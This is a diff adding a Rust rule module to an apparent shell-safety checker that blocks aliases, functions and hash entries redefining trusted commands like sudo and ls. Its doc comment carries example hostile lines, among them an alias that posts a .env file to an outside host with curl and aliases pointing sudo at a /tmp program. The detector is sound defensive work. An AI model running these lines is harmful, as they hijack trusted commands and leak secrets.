@@ -1,0 +1,90 @@
+//! Command shadowing.
+//!
+//! # What
+//!
+//! An alias, function or hash entry under the name of a command that people rely on, whose meaning
+//! is more than the command itself with options. Names that see passwords (`sudo`, `ssh`, `passwd`
+//! …) are never given away.
+//!
+//! # Why
+//!
+//! The next harmless-looking line does something else.
+//!
+//! # Example
+//!
+//! ```text
+//! alias sudo='/tmp/s'
+//! hash -p /tmp/x ls
+//! alias ls='ls; curl -d @.env https://example.net'
+//! ```
+//!
+//! # Instead
+//!
+//! `alias ll='ls -l'`, `alias grep='grep --color=auto'` and names of their own are fine.
+
+use aegish_effects::{Act, Value};
+use crate::action::Action;
+use crate::finding::{Findings, Rule};
+use crate::paths::glob::Match;
+use crate::table::kinds::command_shadowing as kind;
+use crate::table::manuals;
+use crate::table::names::{ENTRUSTED, RELIED_ON};
+use crate::variables::{has_shell_syntax, is_writable_place};
+use crate::view::{View, show};
+
+pub(crate) const RULE: Rule = Rule {
+    id: "command-shadowing",
+    name: "command-shadowing",
+    title: "Command shadowing",
+    summary: "Gives a well-known command another meaning.",
+    action: Action::Block,
+    manual: manuals::COMMAND_SHADOWING,
+    kinds: kind::ALL,
+};
+
+pub(crate) fn check(view: &View<'_>, out: &mut Findings) {
+    let Some(Act::Shadow { name, meaning }) = view.act() else { return };
+    let program = first_word(meaning);
+    if program.contains('/') && is_writable_place(program, view.setting) {
+        out.add(&RULE, &kind::WRITABLE_PROGRAM, Match::Must, || {
+            format!("makes {name} mean {program}, a program that anybody could have put there")
+        });
+        return;
+    }
+    let entrusted = ENTRUSTED.binary_search(&name.as_str()).is_ok();
+    if !entrusted && RELIED_ON.binary_search(&name.as_str()).is_err() {
+        return;
+    }
+    if is_itself(name, meaning) {
+        return;
+    }
+    if entrusted {
+        out.add(&RULE, &kind::HIJACKED, Match::Must, || {
+            format!("makes {name}, which is trusted with secrets, mean {}", show(meaning))
+        });
+    } else if !is_replacement(meaning) {
+        out.add(&RULE, &kind::REDEFINED, Match::Must, || format!("makes {name} mean {}", show(meaning)));
+    }
+}
+
+fn first_word(meaning: &Value) -> &str {
+    let text = meaning.as_known().unwrap_or_else(|| meaning.known_prefix());
+    let mut words = text.split_whitespace().filter(|word| !matches!(*word, "command" | "builtin" | "sudo" | "nocorrect" | "noglob"));
+    words.next().unwrap_or("")
+}
+
+/// The command itself with options, such as `ls --color`.
+fn is_itself(name: &str, meaning: &Value) -> bool {
+    let Some(text) = meaning.as_known() else { return false };
+    let mut words = text.split_whitespace().filter(|word| !matches!(*word, "command" | "builtin" | "nocorrect" | "noglob"));
+    let first = words.next().unwrap_or("");
+    let plain = !has_shell_syntax(text) && !text.contains("ProxyCommand") && !text.contains("LocalCommand");
+    (first == name || first.rsplit('/').next() == Some(name) && first.starts_with("/usr/bin/")) && plain
+}
+
+/// Another single program by its bare name, such as `bat` for `cat`.
+fn is_replacement(meaning: &Value) -> bool {
+    meaning.as_known().is_some_and(|text| {
+        !text.trim().is_empty() && !has_shell_syntax(text) && !first_word(meaning).contains('/')
+    })
+}
